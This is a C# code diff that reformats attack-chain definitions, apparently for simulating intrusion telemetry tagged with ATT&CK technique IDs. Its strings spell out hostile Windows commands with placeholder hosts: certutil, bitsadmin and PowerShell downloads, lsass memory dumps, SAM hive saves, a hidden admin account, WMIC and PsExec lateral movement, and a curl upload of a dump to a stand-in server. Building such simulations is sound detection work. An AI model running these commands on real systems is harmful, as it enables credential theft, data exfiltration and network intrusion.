@@ -21,8 +21,19 @@ internal static class ServerChains
             "w3wp",
             Shell(
                 @"certutil -urlcache -split -f <=bad-url>/<=bad-file>.exe C:\Windows\Temp\<=payload>64.exe",
-                new Scene("certutil.exe", @"certutil  -urlcache -split -f <=bad-url>/<=bad-file>.exe C:\Windows\Temp\<=payload>64.exe") { Technique = "T1105" })),
-        new ChainPart("w3wp", Shell(@"C:\Windows\Temp\<=payload>64.exe -accepteula -ma lsass.exe C:\Windows\Temp\<=bad-file>.dmp", new Scene("renamed-procdump", @"C:\Windows\Temp\<=payload>64.exe  -accepteula -ma lsass.exe C:\Windows\Temp\<=bad-file>.dmp") { Technique = "T1003.001" })) { After = 150 });
+                new Scene(
+                    "certutil.exe",
+                    @"certutil  -urlcache -split -f <=bad-url>/<=bad-file>.exe C:\Windows\Temp\<=payload>64.exe")
+                { Technique = "T1105" })),
+        new ChainPart(
+            "w3wp",
+            Shell(
+                @"C:\Windows\Temp\<=payload>64.exe -accepteula -ma lsass.exe C:\Windows\Temp\<=bad-file>.dmp",
+                new Scene(
+                    "renamed-procdump",
+                    @"C:\Windows\Temp\<=payload>64.exe  -accepteula -ma lsass.exe C:\Windows\Temp\<=bad-file>.dmp")
+                { Technique = "T1003.001" }))
+        { After = 150 });
 
     public static readonly AttackChain DatabaseShell = new("database-shell", [DatabaseServer],
         new ChainPart(
@@ -32,14 +43,19 @@ internal static class ServerChains
                 new Scene("whoami.exe", "whoami") { Technique = "T1033" },
                 new Scene("ipconfig.exe", "ipconfig  /all") { Technique = "T1016" }))
         { After = 1 },
-        new ChainPart("sqlservr", Shell("powershell -nop -exec bypass -c \"IEX (New-Object Net.WebClient).DownloadString('<=bad-url>/<=bad-file>.ps1')\"", new Scene("powershell.exe", "powershell  -nop -exec bypass -c \"IEX (New-Object Net.WebClient).DownloadString('<=bad-url>/<=bad-file>.ps1')\"")
-        {
-            Technique = "T1059.001",
-            Then =
+        new ChainPart("sqlservr", Shell(
+            "powershell -nop -exec bypass -c \"IEX (New-Object Net.WebClient).DownloadString('<=bad-url>/<=bad-file>.ps1')\"",
+            new Scene(
+                "powershell.exe",
+                "powershell  -nop -exec bypass -c \"IEX (New-Object Net.WebClient).DownloadString('<=bad-url>/<=bad-file>.ps1')\"")
+            {
+                Technique = "T1059.001",
+                Then =
             [
                 new(
                     "bitsadmin.exe",
-                    @"""C:\Windows\system32\bitsadmin.exe"" /transfer <=bad-file> /download /priority high <=bad-url>/<=bad-file>.exe C:\Users\Public\<=payload>.exe") { Technique = "T1197", After = 15 },
+                    @"""C:\Windows\system32\bitsadmin.exe"" /transfer <=bad-file> /download /priority high " +
+                        @"<=bad-url>/<=bad-file>.exe C:\Users\Public\<=payload>.exe") { Technique = "T1197", After = 15 },
                 new("dropper", "<path>", "<path> -d <=c2>")
                 {
                     Technique = "T1105",
@@ -52,13 +68,16 @@ internal static class ServerChains
                             After = 25,
                             Then =
                             [
-                                new("net1.exe", @"C:\Windows\system32\net1  user svc_backup$ <=hex:10>A! /add") { Technique = "T1136.001", After = 0.03 },
+                                new(
+                                    "net1.exe",
+                                    @"C:\Windows\system32\net1  user svc_backup$ <=hex:10>A! /add")
+                                { Technique = "T1136.001", After = 0.03 },
                             ],
                         },
                     ],
                 },
             ],
-        })));
+            })));
 
     public static readonly AttackChain Lateral = new("lateral-movement", [AdminWorkstation, DeveloperWorkstation, OfficeWorkstation],
         new ChainPart(
@@ -71,13 +90,17 @@ internal static class ServerChains
                 [
                     new(
                         "cmd.exe",
-                        @"C:\Windows\system32\cmd.exe /c ""wmic /node:<=target> process call create ""powershell -nop -w hidden -enc <=encoded:discovery>""""")
+                        @"C:\Windows\system32\cmd.exe /c ""wmic /node:<=target> process call create ""powershell -nop -w hidden " +
+                            @"-enc <=encoded:discovery>""""")
                     {
                         Technique = "T1059.003",
                         After = 40,
                         Then =
                         [
-                            new("wmic.exe", @"wmic  /node:<=target> process call create ""powershell -nop -w hidden -enc <=encoded:discovery>""") { Technique = "T1047" },
+                            new(
+                                "wmic.exe",
+                                @"wmic  /node:<=target> process call create ""powershell -nop -w hidden -enc <=encoded:discovery>""")
+                            { Technique = "T1047" },
                         ],
                     },
                 ],
@@ -97,14 +120,35 @@ internal static class ServerChains
                         After = 12,
                         Then =
                         [
-                            new("net1.exe", @"C:\Windows\system32\net1 group ""Domain Admins"" /domain") { Technique = "T1069.002", After = 0.03 },
+                            new(
+                                "net1.exe",
+                                @"C:\Windows\system32\net1 group ""Domain Admins"" /domain") { Technique = "T1069.002", After = 0.03 },
                         ],
                     },
                     new("quser.exe", "\"C:\\Windows\\system32\\quser.exe\"") { Technique = "T1033", After = 9 },
                 ],
             })
         { OnTarget = true, After = 45 },
-        new ChainPart("services", new Scene("psexesvc.exe", @"C:\Windows\PSEXESVC.exe") { As = "system", Technique = "T1569.002", Then = [new("cmd.exe", "\"cmd.exe\" ", "\"cmd\" /c powershell -ep bypass -f C:\\Windows\\Temp\\<=bad-file>.ps1") { Technique = "T1059.003", Then = [new("whoami.exe", "whoami") { Technique = "T1033", After = 15 }, new("rundll32.exe", @"rundll32  C:\Windows\Temp\<=payload>.dll,#1") { Technique = "T1218.011", After = 30 }] }] }) { OnTarget = true, After = 180 })
+        new ChainPart(
+            "services",
+            new Scene(
+                "psexesvc.exe",
+                @"C:\Windows\PSEXESVC.exe")
+            {
+                As = "system",
+                Technique = "T1569.002",
+                Then = [new(
+                    "cmd.exe",
+                    "\"cmd.exe\" ",
+                    "\"cmd\" /c powershell -ep bypass -f C:\\Windows\\Temp\\<=bad-file>.ps1")
+                {
+                    Technique = "T1059.003",
+                    Then = [new("whoami.exe", "whoami") { Technique = "T1033", After = 15 }, new(
+                        "rundll32.exe",
+                        @"rundll32  C:\Windows\Temp\<=payload>.dll,#1") { Technique = "T1218.011", After = 30 }],
+                }],
+            })
+        { OnTarget = true, After = 180 })
     {
         Targets = [FileServer, WebServer, DatabaseServer, OfficeWorkstation],
         NeedsPerson = true,
@@ -119,7 +163,8 @@ internal static class ServerChains
         [
             new(
                 "cmd.exe",
-                @"C:\Windows\system32\cmd.exe /c reg save HKLM\SAM C:\ProgramData\<=bad-file>1.hiv /y && reg save HKLM\SYSTEM C:\ProgramData\<=bad-file>2.hiv /y")
+                @"C:\Windows\system32\cmd.exe /c reg save HKLM\SAM C:\ProgramData\<=bad-file>1.hiv /y && reg save HKLM\SYSTEM " +
+                    @"C:\ProgramData\<=bad-file>2.hiv /y")
             {
                 Technique = "T1059.003",
                 After = 10,
@@ -131,7 +176,8 @@ internal static class ServerChains
             },
             new(
                 "powershell.exe",
-                "powershell.exe -nop -w hidden -c \"rundll32 C:\\Windows\\System32\\comsvcs.dll, MiniDump (Get-Process lsass).Id C:\\ProgramData\\<=bad-file>.dmp full\"")
+                "powershell.exe -nop -w hidden -c \"rundll32 C:\\Windows\\System32\\comsvcs.dll, MiniDump (Get-Process lsass).Id " +
+                    "C:\\ProgramData\\<=bad-file>.dmp full\"")
             {
                 Technique = "T1059.001",
                 After = 30,
@@ -139,7 +185,8 @@ internal static class ServerChains
                 [
                     new(
                         "rundll32.exe",
-                        @"""C:\Windows\system32\rundll32.exe"" C:\Windows\System32\comsvcs.dll MiniDump <num:600-1100> C:\ProgramData\<=bad-file>.dmp full") { Technique = "T1003.001" },
+                        @"""C:\Windows\system32\rundll32.exe"" C:\Windows\System32\comsvcs.dll MiniDump <num:600-1100> " +
+                            @"C:\ProgramData\<=bad-file>.dmp full") { Technique = "T1003.001" },
                 ],
             },
             new("cmd.exe", @"C:\Windows\system32\cmd.exe /c curl -F f=@C:\ProgramData\<=bad-file>.dmp <=bad-url>/u")
@@ -157,5 +204,9 @@ internal static class ServerChains
 
     /// <summary>A service's cmd.exe, as a web shell or xp_cmdshell starts it.</summary>
     private static Scene Shell(string command, params Scene[] then) =>
-        new("cmd.exe", $@"""C:\Windows\system32\cmd.exe"" /c {command}", $@"""cmd.exe"" /c {command}") { Technique = "T1059.003", Then = then };
+        new(
+            "cmd.exe",
+            $@"""C:\Windows\system32\cmd.exe"" /c {command}",
+            $@"""cmd.exe"" /c {command}")
+        { Technique = "T1059.003", Then = then };
 }
